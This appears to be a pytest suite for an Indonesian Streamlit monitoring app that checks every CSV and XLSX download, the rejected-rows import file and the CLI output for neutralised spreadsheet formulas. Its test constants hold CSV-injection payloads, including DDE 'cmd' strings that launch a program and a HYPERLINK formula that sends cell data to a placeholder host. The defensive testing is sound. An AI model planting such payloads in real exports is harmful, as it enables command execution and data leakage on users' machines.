"""Exports never carry a live formula (CSV injection): the one writer (data_access.safe_export)
quotes text that a spreadsheet would run, and every CSV and XLSX download the app offers, the
rejected rows of an import and the command line's CSV go through it."""
from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select, update
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from data_access import auth, importer
from data_access import safe_export as se
from data_access.models import Opd
from data_access.visits import VisitInput, add_visit
from tests.conftest import login_state
from ui.export import to_csv_bytes, to_excel_bytes
from ui.nav import PAGES

ROOT = Path(__file__).resolve().parent.parent
LEADS = ("=", "+", "-", "@", "\t", "\r")
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
NON_TABLE = {"png", "svg", "pdf", "zip"}  # QR codes, posters, the monev report: no cells

# hostile text planted where officers, logins and files put text
H_SHORT = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
H_NAME = "+cmd|' /C calc'!A0"
H_KEC = "-2+3+cmd|' /C calc'!A0"
H_USER = '=HYPERLINK("http://contoh.invalid","masuk")'
H_TARGET = "@SUM(1+1)*cmd|' /C calc'!A0"
H_TAB = "\t=1+1"
H_CR = "\r=2+2"
H_CTRL = "\x1b=3+3"  # a control character an XLSX cannot hold, in front of a formula
H_OFFICER = "=1+1"
H_OFFICER2 = "@SUM(A1)"
H_RECORDER = "-1+1"
H_VENUE = "=HYPERLINK(\"http://contoh.invalid\",\"venue\")"
H_HEADER = "=kolom"


# ---------------------------------------------------------------- the helper
@pytest.mark.parametrize("lead", LEADS)
def test_each_formula_lead_is_quoted(lead):
    text = f"{lead}SUM(A1:A9)"
    assert se.neutralise(text) == "'" + text
    df = pd.DataFrame({"teks": [text]})
    assert cells_of_csv(se.csv_bytes(df)) == [["teks"], ["'" + text]]
    ws = openpyxl.load_workbook(io.BytesIO(se.xlsx_bytes(df))).active
    cell = ws["A2"]
    assert cell.data_type == "s" and cell.value.startswith("'")


def test_harmless_values_untouched():
    for v in ["", "Budi", "'=already quoted", "'@x", " =leading space", "1-2", "a=b", "#N/A", "–"]:
        assert se.neutralise(v) == v
    for v in [-1, -2.5, 0, 3, np.int64(-7), np.float64(-0.5), True, None, pd.NaT]:
        assert se.neutralise(v) is v
    nan = se.neutralise(float("nan"))
    assert isinstance(nan, float) and math.isnan(nan)
    assert se.neutralise(se.neutralise("=1+1")) == "'=1+1"  # idempotent


def test_frame_numbers_dates_and_nan():
    df = pd.DataFrame({
        "int": [-1, 2], "float": [-1.5, np.nan], "bool": [True, False],
        "tanggal": pd.to_datetime(["2022-01-05", "2022-01-06"]),
        "teks": ["-3", None], "campur": [-4, "=5"], "kategori": pd.Categorical(["+a", "b"]),
        "=judul": ["x", "y"],
    })
    out = se.neutralise_frame(df)
    assert list(out.columns) == ["int", "float", "bool", "tanggal", "teks", "campur", "kategori", "'=judul"]
    assert out["int"].tolist() == [-1, 2] and out["int"].dtype == df["int"].dtype
    assert out["float"].iloc[0] == -1.5 and math.isnan(out["float"].iloc[1])
    assert out["bool"].tolist() == [True, False] and (out["tanggal"] == df["tanggal"]).all()
    assert out["teks"].iloc[0] == "'-3" and pd.isna(out["teks"].iloc[1])  # text, even if it looks like a number
    assert out["campur"].tolist() == [-4, "'=5"]  # the number stays a number, the text is quoted
    assert out["kategori"].tolist() == ["'+a", "b"]
    assert df["teks"].iloc[0] == "-3" and list(df.columns)[-1] == "=judul"  # the input is not changed
    rows = cells_of_csv(se.csv_bytes(df))
    assert rows[1][:5] == ["-1", "-1.5", "True", "2022-01-05", "'-3"] and rows[2][1] == ""
    ws = openpyxl.load_workbook(io.BytesIO(se.xlsx_bytes(df))).active
    assert [c.value for c in ws[2]][:2] == [-1, -1.5] and ws["A2"].data_type == "n"  # numbers stay numbers
    assert ws["E2"].value == "'-3" and ws["F2"].value == -4 and ws["F3"].value == "'=5"


def test_csv_separator_and_line_breaks():
    df = pd.DataFrame({"a": ["x\r=1+1", "y\n@2", "z;=3"], "b": [1, 2, 3]})
    text = se.csv_text(df, sep=";")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows == [["a", "b"], ["x\r=1+1", "1"], ["y\n@2", "2"], ["z;=3", "3"]]  # a CR never starts a row
    assert se.csv_bytes(df).startswith(b"\xef\xbb\xbf")


def test_xlsx_text_is_text_and_control_characters_do_not_crash():
    df = pd.DataFrame({"a": ["\x07bel", H_CTRL, "#DIV/0!", "=" * 2], "n": [1, 2, 3, 4]})
    long_name = "Lembar dengan nama yang sangat panjang"
    wb = openpyxl.load_workbook(io.BytesIO(se.xlsx_bytes(df, long_name)))
    ws = wb.active
    assert ws.title == long_name[:31]
    vals = [ws.cell(row=r, column=1) for r in range(2, 6)]
    assert all(c.data_type == "s" for c in vals)
    assert vals[0].value == "\ufffdbel" and vals[1].value == "\ufffd=3+3" and vals[2].value == "#DIV/0!"
    assert vals[3].value == "'=="
    assert_safe_xlsx(se.xlsx_bytes(df), "unit")


def test_ui_export_uses_the_helper():
    df = pd.DataFrame({"Petugas": [H_OFFICER, H_OFFICER2], "Masuk tanpa scan": [-1, 2]})
    assert to_csv_bytes(df) == se.csv_bytes(df)
    assert cells_of_csv(to_csv_bytes(df))[1] == ["'" + H_OFFICER, "-1"]
    assert_safe_xlsx(to_excel_bytes(df, "Kunjungan"), "ui")


def test_rejects_csv_is_neutralised():
    rejects = pd.DataFrame({"baris": [2, 3], "alasan": ["venue tidak dikenal", "status tidak dikenal"],
                            H_HEADER: [H_VENUE, "-"], "status": ["+hijau", H_CR]})
    res = importer.ImportResult(file_name="x.csv", checksum="0", rows_rejected=2, rejects=rejects)
    rows = cells_of_csv(res.rejects_csv())
    assert rows[0] == ["baris", "alasan", "'" + H_HEADER, "status"]
    assert rows[1] == ["2", "venue tidak dikenal", "'" + H_VENUE, "'+hijau"]
    assert rows[2] == ["3", "status tidak dikenal", "'-", "'" + H_CR]
    assert_safe_csv(res.rejects_csv(), "rejects_csv")


# ---------------------------------------------------------------- checks
def cells_of_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
        return True
    except ValueError:
        return False


def assert_safe_csv(data: bytes, where: str) -> list[str]:
    """No cell (header included) starts with a formula lead unless it is a plain number."""
    cells = [c for row in cells_of_csv(data) for c in row]
    bad = [c for c in cells if c.startswith(LEADS) and not _is_number(c)]
    assert not bad, f"{where}: live formulas {bad[:5]}"
    return cells


def assert_safe_xlsx(data: bytes, where: str) -> list:
    """No formula cell; every text cell starting with a formula lead is quoted."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{where}: formula at {ws.title}!{c.coordinate}: {c.value!r}"
                if isinstance(c.value, str):
                    assert c.data_type == "s", (where, c.coordinate, c.data_type)
                    assert not c.value.startswith(LEADS), f"{where}: {ws.title}!{c.coordinate} = {c.value!r}"
                values.append(c.value)
    return values


# ---------------------------------------------------------------- every download of every page
def plant_hostile_text(engine) -> None:
    """Hostile text where users put text: OPD names, failed logins in the audit log,
    monitoring visits (officer, notes, who recorded them)."""
    from data_access.queries import data_range

    with engine.begin() as conn:
        printed = conn.execute(select(Opd.code).where(Opd.qr_printed_on.is_not(None)).order_by(Opd.code)).scalars().all()
        unprinted = conn.execute(select(Opd.code).where(Opd.qr_printed_on.is_(None)).order_by(Opd.code)).scalars().all()
        assert printed and unprinted
        conn.execute(update(Opd).where(Opd.code == printed[0]).values(short_name=H_SHORT, name=H_NAME))
        conn.execute(update(Opd).where(Opd.code == unprinted[0]).values(name=H_NAME, short_name=H_KEC))
        for target in (H_TARGET, H_CR, H_CTRL, H_TAB):
            auth.audit(conn, username=H_USER, action="login_gagal", target=target)
    last = data_range(engine=engine)[1]
    recorder = auth.Actor(H_RECORDER, "satpolpp")
    for officer, notes in ((H_OFFICER, H_TARGET), (H_OFFICER2, "catatan\r=1+1")):
        add_visit(engine=engine, actor=recorder, visit=VisitInput(printed[0], last, officer, True, False, 0, notes))


def hostile_import() -> bytes:
    """A file whose rejected rows carry formulas in the file's own columns and header."""
    lines = [
        f"waktu,kode_venue,status,nama,{H_HEADER}",
        "2022-01-31 08:15,BKL019-DISKOMINFO,hijau,Budi,ok",
        f"2022-01-31 08:16,\"{H_VENUE.replace(chr(34), chr(34) * 2)}\",hijau,Budi,{H_OFFICER2}",
        f"2022-01-31 08:17,BKL019-DISKOMINFO,{H_NAME},Budi,\"{H_CR}\"",
        f"-1+1,BKL019-DISKOMINFO,hijau,Budi,{H_KEC}",
    ]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


@pytest.fixture
def downloads(monkeypatch):
    """Every file handed to Streamlit's media file manager (what a download button serves),
    by its URL; deferred downloads (generated on click) by their file id."""
    served: dict[str, tuple[bytes, str, str | None]] = {}
    deferred: dict[str, tuple[object, str | None, str | None]] = {}
    add, add_deferred = MediaFileManager.add, MediaFileManager.add_deferred

    def recording_add(self, path_or_data, mimetype, coordinates, file_name=None, is_for_static_download=False):
        url = add(self, path_or_data, mimetype, coordinates, file_name=file_name,
                  is_for_static_download=is_for_static_download)
        served[url] = (path_or_data, mimetype, file_name)
        return url

    def recording_add_deferred(self, data_callable, mimetype, coordinates, file_name=None, **kw):
        fid = add_deferred(self, data_callable, mimetype, coordinates, file_name=file_name, **kw)
        deferred[fid] = (data_callable, mimetype, file_name)
        return fid

    monkeypatch.setattr(MediaFileManager, "add", recording_add)
    monkeypatch.setattr(MediaFileManager, "add_deferred", recording_add_deferred)
    return served, deferred


def payloads(at: AppTest, downloads) -> list[tuple[str, str, bytes | None]]:
    """(label, file name, bytes) of each download button on the page; bytes None for a deferred
    download that is not a table."""
    served, deferred = downloads
    out = []
    for b in at.get("download_button"):
        if b.proto.deferred_file_id:
            make, _, name = deferred[b.proto.deferred_file_id]
            ext = (name or "").rsplit(".", 1)[-1].lower()
            data = make() if ext not in NON_TABLE else None  # a deferred table is checked too
        else:
            assert b.proto.url in served, (b.proto.label, b.proto.url)
            data, _, name = served[b.proto.url]
        out.append((b.proto.label, name or "", data))
    return out


def run_page(name: str, *, state: dict | None = None) -> AppTest:
    at = AppTest.from_file(str(ROOT / "pages" / f"{name}.py"), default_timeout=120)
    at.session_state["auth"] = login_state("kominfo", "kominfo")
    for k, v in (state or {}).items():
        at.session_state[k] = v
    at.run()
    assert not at.exception, (name, at.exception)
    return at


def test_every_download_is_neutralised(demo_dir, downloads):
    from data_access.db import make_engine

    engine = make_engine(f"sqlite:///{demo_dir / 'pantau.db'}")
    plant_hostile_text(engine)
    engine.dispose()

    runs: dict[str, AppTest] = {}
    for p in PAGES:  # every page, as kominfo (who may open all of them)
        runs[p.key] = run_page(p.key)
    # the other views of pages whose tables change with a control
    runs["peta opd"] = run_page("peta", state={"peta_view": "Per OPD"})
    runs["penolakan harian"] = run_page("penolakan", state={"penolakan_period": "Harian"})
    at = run_page("impor")
    at.file_uploader(key="impor_files").set_value(("berbahaya.csv", hostile_import(), "text/csv")).run()
    at.button(key="impor_go").click().run()
    assert not at.exception
    runs["impor ditolak"] = at

    tables: dict[str, list] = {}  # "run: file name" -> its cells
    others = []
    for run, at in runs.items():
        for label, name, data in payloads(at, downloads):
            ext = name.rsplit(".", 1)[-1].lower()
            where = f"{run}: {name} ({label})"
            if ext == "csv":
                tables[where] = assert_safe_csv(data, where)
            elif ext == "xlsx":
                tables[where] = assert_safe_xlsx(data, where)
            else:
                assert ext in NON_TABLE, f"a new kind of download, check it for formulas here: {where}"
                others.append(where)

    # every table download of the app was seen ...
    def seen(run: str, prefix: str, ext: str) -> list:
        hits = [v for w, v in tables.items() if w.startswith(f"{run}: {prefix}") and f".{ext} (" in w]
        assert hits, f"no {ext} download {prefix!r} on {run}"
        return [c for cells in hits for c in cells]

    expected = {
        "adopsi": ["adopsi-opd-"], "peta": ["peta-adopsi-"], "peta opd": ["peta-adopsi-"],
        "onboarding": ["opd-tanpa-qr-"], "audit": ["log-audit-"],
        "monev": ["kepatuhan-opd-", "kunjungan-monev-"],
        "penolakan": ["penolakan-tren-", "penolakan-per-opd-", "penolakan-asn-pengunjung-", "penolakan-hari-jam-",
                      "penolakan-merah-kecamatan-"],
        "penolakan harian": ["penolakan-tren-"],
    }
    for run, prefixes in expected.items():
        for prefix in prefixes:
            for ext in ("csv", "xlsx"):
                seen(run, prefix, ext)
    assert seen("impor", "templat-impor-checkin", "csv")
    assert any(w.startswith("qr: ") for w in others) and any(w.startswith("monev: ") for w in others)

    # ... and the hostile text reached them, quoted
    def has(run: str, prefix: str, text: str) -> None:
        for ext in ("csv", "xlsx") if run != "impor ditolak" else ("csv",):
            cells = seen(run, prefix, ext)
            want = "'" + (text.replace("\x1b", "\ufffd") if ext == "xlsx" else text)
            if ext == "xlsx":
                want = want.replace("\r", "\n")  # XML reads a CR back as a line feed
                cells = [c.replace("\r", "\n") if isinstance(c, str) else c for c in cells]
            assert want in cells, (run, prefix, ext, want)

    has("adopsi", "adopsi-opd-", H_SHORT)
    has("peta opd", "peta-adopsi-", H_KEC)
    has("onboarding", "opd-tanpa-qr-", H_NAME)
    has("penolakan", "penolakan-per-opd-", H_SHORT)
    has("monev", "kepatuhan-opd-", H_SHORT)
    for text in (H_OFFICER, H_OFFICER2, H_RECORDER, H_SHORT, H_TARGET):
        has("monev", "kunjungan-monev-", text)
    for text in (H_USER, H_TARGET, H_CR, H_TAB):
        has("audit", "log-audit-", text)
    assert "\ufffd=3+3" in seen("audit", "log-audit-", "xlsx")  # the control character did not crash it
    for text in (H_HEADER, H_VENUE, H_OFFICER2, H_CR, "-1+1", H_KEC):
        has("impor ditolak", "ditolak-berbahaya", text)


def test_cli_csv_is_neutralised(demo_dir, capsys):
    from data_access import cli
    from data_access.db import make_engine

    engine = make_engine(f"sqlite:///{demo_dir / 'pantau.db'}")
    plant_hostile_text(engine)
    engine.dispose()
    assert cli.main(["opds", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out, newline="")))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(LEADS) and not _is_number(c)]
    assert "'" + H_NAME in cells and "'" + H_SHORT in cells and "'" + H_KEC in cells
    assert pd.read_csv(io.StringIO(out))["code"].notna().all()


def test_csv_split_on_another_separator_yields_no_formula():
    """Excel with Indonesian regional settings splits a CSV on ';': a text holding ';=' must not
    become a cell of its own that starts with '='."""
    import csv as _csv
    import io as _io

    from data_access.safe_export import csv_text

    df = pd.DataFrame({"petugas": ["Budi;=HYPERLINK(\"http://x\")", "Ani,@SUM(A1)"], "n": [1, -2]})
    for sep in (";", ","):
        for row in _csv.reader(_io.StringIO(csv_text(df)), delimiter=sep):
            for cell in row:
                assert not cell.startswith(("=", "@", "+")), (sep, cell)
